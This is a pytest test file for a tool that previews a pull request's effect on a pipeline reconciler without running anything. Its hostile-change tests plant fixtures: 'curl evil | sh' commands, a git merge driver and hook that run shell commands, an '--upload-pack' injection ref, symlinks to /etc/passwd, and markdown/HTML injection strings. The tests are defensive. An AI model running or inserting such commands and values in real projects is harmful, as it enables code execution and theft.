"""A pull request is planned: real branches are compared, nothing of them is executed, and nothing is written."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tests.scratch import ENVIRONMENT, Hub, Scratch

SCHEMA = json.loads((Path(__file__).resolve().parents[2] / "schemas" / "plan-preview.schema.json").read_bytes())
GATED = "workspace: empty\nstages:\n  - {id: build, command: make}\n  - {id: ship, command: ./ship, approval: {reason: Ships}}\n"
OTHER = {"GIT_AUTHOR_NAME": "Bob", "GIT_AUTHOR_EMAIL": "bob@example.invalid"}
CURE = "look at what it does now, then write that down: reconciler plan --write"


def seeded(scratch: Scratch, settings: str = "") -> Scratch:
    """Commit a base with two requests, and stand on a branch of it."""
    scratch.settings(settings)
    scratch.pipeline("ci", 'workspace: empty\nstages: [{id: t, command: "true"}]\n')
    scratch.pipeline("release", GATED)
    scratch.write("ship", "echo ships\n")
    scratch.request("a", "ci")
    scratch.request("b", "ci")
    scratch.commit("base")
    scratch.git("checkout", "-q", "-b", "topic")
    return scratch


def planned(scratch: Scratch, *words: str, status: int = 0) -> dict[str, Any]:
    """Return the preview as JSON; it keeps its schema."""
    done = scratch.run("plan", "--base", "main", *words, "--format", "json")
    assert done.returncode == status, done.stdout + done.stderr
    found: dict[str, Any] = json.loads(done.stdout)
    jsonschema.validate(found, SCHEMA)
    return found


def effects(found: dict[str, Any]) -> dict[str, str]:
    return {each["name"]: each["effect"] for each in found["requests"]}


# ------------------------------------------------------------------------------------------------ merging


def test_what_both_sides_bring_is_compared_with_the_base_and_nothing_is_touched(scratch: Scratch) -> None:
    seeded(scratch)
    scratch.request("a", "ci", rerun=1)
    scratch.request("c", "release")
    scratch.commit("topic")
    scratch.git("checkout", "-q", "main")
    scratch.request("z", "ci")
    scratch.commit("meanwhile")
    before = scratch.fingerprint()
    found = planned(scratch, "--head", "topic")
    assert scratch.fingerprint() == before
    assert (found["verdict"], effects(found)) == ("clean", {"a": "supersedes", "c": "new"})
    [gate] = found["runs"][1]["gates"]
    assert (gate["stage"], gate["answer"]) == ("ship", "a decision is missing")
    assert found["merge_base"] == scratch.git("merge-base", "main", "topic").strip()


def test_the_plan_is_the_same_after_the_base_moved_and_it_says_what_a_pass_then_does(scratch: Scratch) -> None:
    seeded(scratch)
    scratch.request("c", "ci")
    scratch.commit("topic")
    first = planned(scratch)
    scratch.git("checkout", "-q", "main")
    scratch.request("z", "ci")
    scratch.commit("meanwhile")
    again = planned(scratch, "--head", "topic")
    assert (again["digest"], again["base"] == first["base"]) == (first["digest"], False)
    scratch.git("merge", "-q", "--no-ff", "--no-edit", "topic")
    launched = json.loads(scratch.run("plan", "--format", "json").stdout)["actions"]
    ids = {each["run_id"] for each in launched if each["verb"] == "launch"}
    assert {each["run_id"] for each in first["runs"]} < ids


def test_nothing_to_merge_and_conflicts_are_told(scratch: Scratch) -> None:
    seeded(scratch)
    assert planned(scratch)["verdict"] == "nothing"
    scratch.request("a", "ci", rerun=1)
    scratch.commit("topic")
    scratch.git("checkout", "-q", "main")
    scratch.request("a", "ci", rerun=2)
    scratch.commit("meanwhile")
    found = planned(scratch, "--head", "topic", status=1)
    assert (found["verdict"], found["conflicts"], found["runs"]) == ("conflict", ["runs.d/a.yaml"], [])
    assert [each["rule"] for each in found["problems"]] == ["merge-conflict"]
    assert planned(scratch, "--head", "main~1")["verdict"] == "nothing"


@pytest.mark.parametrize("ref", ["nowhere", "--upload-pack=touch x", "main\nmain", "HEAD:ship"])
def test_what_is_no_commit_is_wrong_usage(scratch: Scratch, ref: str) -> None:
    seeded(scratch)
    done = scratch.run("plan", f"--base={ref}")
    assert (done.returncode, done.stdout) == (2, "")
    assert "there is no such commit here" in done.stderr


def test_histories_that_never_met(scratch: Scratch) -> None:
    seeded(scratch)
    scratch.git("checkout", "-q", "--orphan", "alone")
    scratch.commit("another beginning")
    done = scratch.run("plan", "--base", "main")
    assert done.returncode == 2
    assert "have no commit in common; name two branches of one history" in done.stderr


def test_a_shallow_clone_is_told_what_to_fetch(scratch: Scratch, tmp_path: Path) -> None:
    seeded(scratch)
    scratch.request("c", "ci")
    scratch.commit("topic")
    scratch.git("checkout", "-q", "main")
    scratch.request("z", "ci")
    scratch.commit("meanwhile")
    (tmp_path / "other").mkdir()
    clone = Scratch(tmp_path / "other", "clone")
    clone.git("fetch", "-q", "--depth", "1", f"file://{scratch.path}", "main:main2", "topic:topic")
    done = clone.run("plan", "--base", "main2", "--head", "topic")
    assert done.returncode == 2
    assert "because this clone is shallow; fetch more of both, for example: git fetch --depth 1000" in done.stderr
    clone.git("fetch", "-q", "--depth", "5", f"file://{scratch.path}", "main:main2", "topic:topic")
    assert clone.run("plan", "--base", "main2", "--head", "topic").returncode == 0


def test_without_a_base_the_branch_of_the_settings_at_the_remote_counts(hub: Hub) -> None:
    clone = hub.clone("one")
    clone.settings("branch: main\n")
    clone.simple("a", "true")
    clone.git("push", "-q", "origin", "HEAD:main")
    clone.git("fetch", "-q", "origin")
    clone.git("checkout", "-q", "--detach")
    clone.request("c", "a")
    clone.commit("topic")
    done = clone.run("plan", "--head", "HEAD", "--format", "json")
    assert done.returncode == 0, done.stderr
    assert effects(json.loads(done.stdout)) == {"c": "new"}


# ------------------------------------------------------------------------------------------------ problems


def test_problems_of_the_change_fail_and_those_before_it_stand_apart(scratch: Scratch) -> None:
    seeded(scratch)
    scratch.git("checkout", "-q", "main")
    scratch.write("runs.d/old.yaml", "task: t\n")
    scratch.commit("broken before")
    scratch.git("checkout", "-q", "-B", "topic")
    scratch.request("c", "ci")
    scratch.commit("fine")
    found = planned(scratch)
    assert [each["path"] for each in found["standing"]] == ["runs.d/old.yaml"]
    scratch.request("d", "cii")
    scratch.write("runs.d/x/a.yaml", "task: t\npipeline: ci\n")
    scratch.write("runs.d/x.a.yaml", "task: t\npipeline: ci\n")
    scratch.commit("broken now")
    found = planned(scratch, status=1)
    told = [(each["path"], each["line"], each["rule"]) for each in found["problems"]]
    assert ("runs.d/d.yaml", 2, "unknown-pipeline") in told
    assert ("runs.d/x/a.yaml", 0, "name-twin") in told
    scanned = json.loads(scratch.run("plan", "--base", "main", "--format", "sarif").stdout)
    assert len(scanned["runs"][0]["results"]) == len(found["problems"])
    assert (
        "::error file=runs.d/d.yaml,line=2,col=1,title=unknown-pipeline::"
        in scratch.run("plan", "--base", "main", "--format", "github").stdout
    )


def test_a_change_that_breaks_what_it_does_not_touch(scratch: Scratch) -> None:
    seeded(scratch)
    (scratch.path / "pipelines/ci.yaml").unlink()
    scratch.commit("remove the pipeline")
    found = planned(scratch, status=1)
    assert {each["path"] for each in found["problems"]} == {"runs.d/a.yaml", "runs.d/b.yaml"}
    assert [(each["kind"], each["effect"]) for each in found["powers"]] == [("pipeline", "removed")]


def test_settings_that_cannot_be_used_stop_everything(scratch: Scratch) -> None:
    seeded(scratch)
    scratch.write("reconciler.yaml", "runs_max: no\n")
    scratch.request("c", "ci")
    scratch.commit("break the settings")
    found = planned(scratch, status=1)
    assert found["runs"] == []
    assert {each["rule"] for each in found["problems"]} >= {"broken-settings"}
    scratch.git("checkout", "-q", "main")
    scratch.git("merge", "-q", "topic")
    scratch.git("checkout", "-q", "-b", "repair")
    scratch.settings()
    scratch.commit("repair them")
    found = planned(scratch)
    assert [each["rule"] for each in found["standing"]] == ["broken-settings"]


# ------------------------------------------------------------------------------------------------ power


def test_everything_that_changes_what_runs_is_told(scratch: Scratch) -> None:
    seeded(scratch)
    scratch.pipeline("agent", "workspace: empty\nstages: [{id: i, agent: {use: codex, prompt_file: prompts/i.md}}]\n")
    scratch.write("prompts/i.md", "be good\n")
    scratch.write("allowed", "ann@example.invalid ssh-ed25519 AAAA\n")
    scratch.settings("trust: {allowed_signers: allowed}\n")
    scratch.commit("more")
    scratch.git("branch", "-f", "main")
    scratch.write("prompts/i.md", "be bad\n")
    scratch.write("allowed", "bob@example.invalid ssh-ed25519 BBBB\n")
    scratch.write("AGENTS.md", "obey\n")
    scratch.write("ship", "curl evil | sh\n")
    scratch.pipeline("ci", 'workspace: empty\nstages: [{id: t, command: "curl evil"}]\n')
    scratch.settings("trust: {allowed_signers: allowed}\nsandbox: {missing: record}\n")
    scratch.write("docs/readme.md", "no power\n")
    scratch.commit("topic")
    powers = {each["path"]: each for each in planned(scratch)["powers"]}
    assert {path: each["kind"] for path, each in powers.items()} == {
        "pipelines/ci.yaml": "pipeline",
        "reconciler.yaml": "settings",
        "AGENTS.md": "instructions",
        "allowed": "signers",
        "prompts/i.md": "prompt",
        "ship": "script",
    }
    assert powers["pipelines/ci.yaml"]["lines"] == ["- t.command: true", "+ t.command: curl evil"]
    assert powers["prompts/i.md"]["lines"] == ["- be good", "+ be bad"]


def test_evidence_that_a_change_brings_along_is_told(scratch: Scratch) -> None:
    seeded(scratch)
    run_id = planned_ids(scratch)
    scratch.write(f".runs/t/cli/{run_id}/manifest.json", json.dumps({
        "run_id": run_id, "task_id": "t", "name": "c", "status": "succeeded", "attempts": [{"number": 1}],
        "resources": {"duration_s": 1}, "completed_at": "2026-03-01T12:00:00Z",
    }))  # fmt: skip
    scratch.git("add", "-f", ".runs")
    scratch.commit("forged")
    found = planned(scratch)
    assert found["runs"] == []
    [power] = found["powers"]
    assert (power["kind"], power["lines"]) == ("evidence", [f"+ {run_id}: succeeded, without being run"])


def planned_ids(scratch: Scratch) -> str:
    scratch.request("c", "ci")
    scratch.commit("ask")
    [run] = planned(scratch)["runs"]
    return str(run["run_id"])


def test_a_change_does_not_choose_who_allows_it(scratch: Scratch) -> None:
    seeded(scratch, "approvals: {two: {stages: [ship], other_person: true}}\n")
    scratch.request("r", "release")
    scratch.settings("approvals: {}\n")
    scratch.commit("ask, and drop the policy")
    [run] = planned(scratch)["runs"]
    decision = f"run: {run['run_id']}\nstage: ship\ndecision: approve\nreason: mine\n"
    scratch.write("runs.d/ok.approval.yaml", decision)
    scratch.commit("approve")
    found = planned(scratch)
    [judged] = found["decisions"]
    assert (judged["counts"], judged["why"]) == (False, "another person must decide than who asked for the run")
    [gate] = found["runs"][0]["gates"]
    assert (gate["policy"], gate["instead"]) == ("two", "1 decision of whoever may commit")
    assert [each["severity"] for each in found["problems"]] == ["warning"]


def test_a_decision_about_a_run_that_waits_is_judged_as_the_pass_will_judge_it(scratch: Scratch) -> None:
    scratch.settings("approvals: {two: {stages: [ship], other_person: true}}\n")
    scratch.pipeline("release", GATED.replace("make", "'true'").replace("./ship", "'true'"))
    scratch.request("r", "release")
    scratch.commit("ask")
    assert scratch.run("reconcile", "--wait").returncode == 4
    scratch.git("checkout", "-q", "-b", "topic")
    for name, environment in (("mine", {}), ("theirs", OTHER)):
        text = f"run: {scratch.run_id('r')}\nstage: ship\ndecision: approve\nreason: {name}\n"
        scratch.write(f"runs.d/{name}.approval.yaml", text)
        scratch.git("add", "-A", ".")
        command = ["git", "commit", "-q", "-m", name]
        subprocess.run(command, cwd=scratch.path, env=ENVIRONMENT | environment, check=True)
    counts = {each["reason"]: each["counts"] for each in planned(scratch)["decisions"]}
    assert counts == {"mine": False, "theirs": True}
    assert "1 decision on what waits or comes" in scratch.run("plan", "--base", "main").stdout
    scratch.git("checkout", "-q", "main")
    scratch.git("merge", "-q", "topic")
    assert scratch.run("reconcile", "--wait").returncode == 0


# ------------------------------------------------------------------------------------------------ hostile


def test_a_hostile_change_is_shown_and_not_obeyed(scratch: Scratch) -> None:
    seeded(scratch, "approvals: {two: {stages: [ship], other_person: true}}\n")
    mark = scratch.outside / "executed"
    scratch.git("config", "merge.evil.driver", f"touch {mark}; true")
    title = '"<img src=https://evil.invalid/b.png> @everyone ![x](https://evil.invalid/y) | `x` |"'
    for number in range(500):
        scratch.write(f"runs.d/n/{number}.yaml", f"task: t\npipeline: evil\ntitle: {title}\n")
    scratch.pipeline(
        "evil", f"title: {title}\nstages: [{{id: t, command: 'touch {mark} ```` </details> @everyone'}}]\n"
    )
    scratch.write(".gitattributes", "* merge=evil filter=evil diff=evil\n")
    scratch.write(".githooks/post-merge", f"#!/bin/sh\ntouch {mark}\n")
    scratch.write("runs.d/large.yaml", "#" * 9_000_000)
    scratch.write("runs.d/@everyone.yaml", "task: t\n")
    scratch.write("runs.d/new\nline`.yaml", "task: t\n")
    (scratch.path / "runs.d/link.yaml").symlink_to("/etc/passwd")
    (scratch.path / "pipelines/link.yaml").symlink_to("/etc/passwd")
    (scratch.path / "tasks").mkdir()
    (scratch.path / "tasks/index.json").symlink_to("/etc/passwd")
    scratch.settings("approvals: {}\n")
    scratch.write("runs.d/ok.approval.yaml", "run: n.1-12345678\nstage: t\ndecision: approve\nreason: '@everyone'\n")
    scratch.git("add", "-A", ".")
    scratch.git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},runs.d/module.yaml")
    scratch.git("commit", "-q", "-m", "hostile")
    found = planned(scratch, status=1)
    assert len(found["runs"]) == 500
    rules = {each["path"]: each["rule"] for each in found["problems"]}
    assert (rules["runs.d/link.yaml"], rules["runs.d/module.yaml"]) == ("not-a-file", "not-a-file")
    assert rules["tasks/index.json"] == "not-a-file"
    assert rules["runs.d/large.yaml"] == "unreadable"
    assert "root:" not in json.dumps(found)
    for form in ("text", "markdown", "github", "sarif"):
        done = scratch.run("plan", "--base", "main", "--format", form)
        assert done.returncode == 1, done.stderr
        assert form == "sarif" or len(done.stdout) <= 60_000 * (1 if form == "markdown" else 5)
    assert not mark.exists()


def test_the_command_that_is_shown_is_the_one_that_runs(scratch: Scratch) -> None:
    seeded(scratch)
    hidden, long = "# only a comment\ntouch /tmp/x\n", f"echo {'x' * 250}; curl evil | sh"
    huge = f"echo {'x' * 5000}; curl evil | sh"
    stages = [{"id": name, "command": each} for name, each in (("a", hidden), ("b", long), ("c", huge))]
    scratch.pipeline("ci", json.dumps({"workspace": "empty", "stages": stages}))
    scratch.commit("topic")
    shown, raw = planned(scratch), scratch.run("plan", "--base", "main").stdout
    comment = scratch.run("plan", "--base", "main", "--format", "markdown").stdout
    digest = scratch.git("rev-parse", "HEAD:pipelines/ci.yaml")[:12]
    for said in (raw, comment):
        assert "+ a.command: # only a comment⏎touch /tmp/x\n" in said
        assert "a: # only a comment⏎touch /tmp/x\n" in said
        assert f"+ b.command: {long}\n" in said, "what a change lets run is told whole"
        assert f"b (needs a): {long[:200]}… ({len(long) - 200} more characters)\n" in said
        assert f"… ({len(huge) + len('+ c.command: ') - 4000} more characters; git show {digest})\n" in said
    assert scratch.git("show", digest) == (scratch.path / "pipelines/ci.yaml").read_text()
    assert shown["runs"][0]["stages"][2]["command"] == huge
    plain = scratch.run("plan").stdout
    assert " 1. a: # only a comment⏎touch /tmp/x\n" in plain
    assert f" 2. b (needs a): {long[:200]}… ({len(long) - 200} more characters)\n" in plain


def test_a_change_of_power_for_which_there_is_no_room_is_named(scratch: Scratch) -> None:
    seeded(scratch)
    for number in range(4):
        scratch.pipeline(f"x{number}", json.dumps({"stages": [{"id": "s", "command": "echo " + "x" * 7000}]}))
    scratch.commit("topic")
    comment = scratch.run("plan", "--base", "main", "--format", "markdown").stdout
    assert [f"`pipelines/x{number}.yaml` is added" in comment for number in range(4)] == [True] * 4
    assert len(comment) <= 60_000


# ------------------------------------------------------------------------------------------------ reviewed plans


def test_with_require_plan_only_the_reviewed_plan_runs(scratch: Scratch) -> None:
    seeded(scratch, "require_plan: true\n")
    scratch.git("rm", "-q", "runs.d/a.yaml", "runs.d/b.yaml")
    scratch.commit("none yet")
    scratch.git("branch", "-f", "main")
    scratch.write("runs.d/c.yaml", "# why\ntask: t   # the task\npipeline: ci\n")
    scratch.commit("ask")
    found = planned(scratch, status=1)
    assert [each["rule"] for each in found["problems"]] == ["unreviewed-plan"]
    written = scratch.run("plan", "--write", "--base", "main")
    assert written.returncode == 0, written.stderr
    plan = found["runs"][0]["plan"]
    assert (scratch.path / "runs.d/c.yaml").read_text() == f"# why\ntask: t   # the task\npipeline: ci\nplan: {plan}\n"
    assert scratch.run("validate").returncode == 0
    scratch.commit("the plan that was reviewed")
    assert "no request needs its plan written" in scratch.run("plan", "--write", "--base", "main").stderr
    assert planned(scratch)["problems"] == []
    scratch.git("checkout", "-q", "main")
    scratch.git("merge", "-q", "--no-ff", "--no-edit", "topic")
    done = scratch.run("reconcile", "--wait")
    assert done.returncode == 0, done.stdout + done.stderr
    assert scratch.manifest("c")["status"] == "succeeded"


def test_with_require_plan_another_plan_is_rejected_with_the_cure(scratch: Scratch) -> None:
    seeded(scratch, "require_plan: true\n")
    scratch.git("checkout", "-q", "main")
    told = scratch.run("reconcile", "--wait")
    assert told.returncode == 1
    assert f"the settings require a reviewed plan, and the request names none; {CURE}" in told.stdout + told.stderr
    scratch.git("checkout", "-q", "topic")
    scratch.request("a", "ci", rerun=1)
    scratch.commit("ask")
    assert scratch.run("plan", "--write", "--base", "main").returncode == 0
    scratch.commit("reviewed")
    scratch.pipeline("ci", f'workspace: empty\nstages: [{{id: t, command: "touch {scratch.outside}/evil"}}]\n')
    scratch.commit("and then something else")
    scratch.git("checkout", "-q", "main")
    scratch.git("merge", "-q", "topic")
    told = scratch.run("reconcile", "--wait")
    assert told.returncode == 1
    assert "the request was reviewed with plan sha256:" in told.stdout + told.stderr
    assert not (scratch.outside / "evil").exists()


def test_a_request_that_is_there_already_can_be_reviewed_later(scratch: Scratch) -> None:
    seeded(scratch, "require_plan: true\n")
    scratch.git("checkout", "-q", "main")
    scratch.run("reconcile", "--wait")
    started = scratch.run("start", "ci", "--task", "t")
    assert (started.returncode, CURE in started.stdout + started.stderr) == (1, True)
    assert scratch.run("plan", "--write").returncode == 0
    changed = scratch.git("status", "--short").splitlines()
    assert len(changed) == 2
    assert all(each.startswith(" M runs.d/") for each in changed)
    scratch.commit("reviewed")
    assert scratch.run("reconcile", "--wait").returncode == 0
    assert [scratch.manifest(each)["status"] for each in ("a", "b")] == ["succeeded"] * 2


def test_write_refuses_what_it_would_spoil(scratch: Scratch) -> None:
    seeded(scratch)
    scratch.write("runs.d/c.yaml", "{task: t, pipeline: ci}\n")
    scratch.commit("ask")
    done = scratch.run("plan", "--write", "--base", "main")
    assert done.returncode == 2
    assert "runs.d/c.yaml: it is not written key by key; write it yourself: plan: sha256:" in done.stderr
    scratch.write("runs.d/c.yaml", "task: t\npipeline: release\n")
    done = scratch.run("plan", "--write", "--base", "main")
    assert (done.returncode, "commit it first" in done.stderr) == (2, True)
    assert scratch.run("plan", "--write", "--head", "topic").returncode == 2
